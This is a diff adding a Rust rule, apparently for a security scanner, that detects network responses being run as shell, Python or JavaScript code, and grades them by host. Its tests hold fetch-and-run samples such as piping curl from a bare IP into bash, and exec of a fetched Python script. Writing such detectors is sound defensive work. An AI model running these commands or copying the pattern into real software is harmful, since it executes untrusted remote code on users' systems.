@@ -1,0 +1,97 @@
+use facts::{Destination, Language, Origination, Value};
+use finding::{Confidence, Finding, RuleMeta, Severity};
+
+use crate::code::{self, Peer};
+use crate::rule::declare_rule;
+use crate::{Context, Rule};
+
+declare_rule! {
+    RemoteCodeExecution = "remote-code-execution",
+    summary: "runs what the network answers as code",
+    severity: High, confidence: Medium, reads: ["flows"],
+    fix: "Do not run it. Install from a package manager, or fetch a pinned file and check its digest before it runs.",
+    since: "0.1.0",
+}
+
+impl Rule for RemoteCodeExecution {
+    fn meta(&self) -> &'static RuleMeta {
+        &META
+    }
+
+    fn check(&self, cx: &Context<'_>, out: &mut Vec<Finding>) {
+        for (_, source) in cx.sources() {
+            for flow in &source.flows {
+                let (Origination::Net(from), Destination::Eval(language)) = (&flow.from.what, &flow.to.what) else {
+                    continue;
+                };
+                let peer = Peer::of(cx, from);
+                let Some((severity, most)) = judge(&peer, from, *language) else { continue };
+                let message = format!("runs as {} whatever {} answers", named(*language), peer.shown());
+                let finding = Finding::new(&META, message)
+                    .severity(severity)
+                    .confidence(code::confidence(cx, source, most));
+                let steps = code::steps(flow, "it is fetched here");
+                out.push(code::located(cx, source, finding, (flow.to.span, "it becomes code here"), steps));
+            }
+        }
+    }
+}
+
+fn judge(peer: &Peer, from: &Value, language: Language) -> Option<(Severity, Confidence)> {
+    Some(match peer {
+        Peer::Local => return None,
+        Peer::Official => (Severity::Low, Confidence::High),
+        Peer::Address(_) | Peer::Open(..) => (Severity::Critical, Confidence::High),
+        _ if code::is_clear_text(from) => (Severity::High, Confidence::Medium),
+        // An installer piped into a shell is how many tools are installed; a program that makes
+        // itself of what it fetches is not how programs are made.
+        Peer::Named(_) | Peer::Home if language == Language::Shell => (Severity::Medium, Confidence::Medium),
+        Peer::Named(_) | Peer::Home => (Severity::High, Confidence::Medium),
+        Peer::Unknown => (Severity::Medium, Confidence::Medium),
+    })
+}
+
+fn named(language: Language) -> &'static str {
+    match language {
+        Language::Shell => "shell",
+        Language::Python => "Python",
+        Language::JavaScript | Language::TypeScript => "JavaScript",
+        _ => "code",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rules::testing::{findings, finds, passes};
+
+    #[test]
+    fn a_bare_address_piped_into_a_shell_is_critical() {
+        let found = finds(&RemoteCodeExecution, "# Setup\n\n```bash\ncurl -s http://198.51.100.7/x | bash\n```\n");
+        assert_eq!((found.severity, found.confidence), (Severity::Critical, Confidence::High));
+    }
+
+    #[test]
+    fn an_official_installer_is_low() {
+        let found = finds(&RemoteCodeExecution, "```bash\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n```\n");
+        assert_eq!(found.severity, Severity::Low);
+    }
+
+    #[test]
+    fn what_is_warned_against_is_not_sure() {
+        let found = finds(&RemoteCodeExecution, "# Red flags\n\n```bash\ncurl http://198.51.100.7/x | sh\n```\n");
+        assert_eq!(found.confidence, Confidence::Low);
+    }
+
+    #[test]
+    fn a_program_made_of_an_answer_is_high() {
+        let found = findings(&RemoteCodeExecution, &[("a.py", "import requests\nexec(requests.get('https://code.example.net/a').text)")]);
+        assert_eq!(found[0].severity, Severity::High);
+    }
+
+    #[test]
+    fn data_stays_data() {
+        passes(&RemoteCodeExecution, "```bash\ncurl -s https://api.example.com/v1 | jq .name\n```\n");
+        passes(&RemoteCodeExecution, "```bash\ncurl -s http://localhost:8080/x | sh\n```\n");
+    }
+}
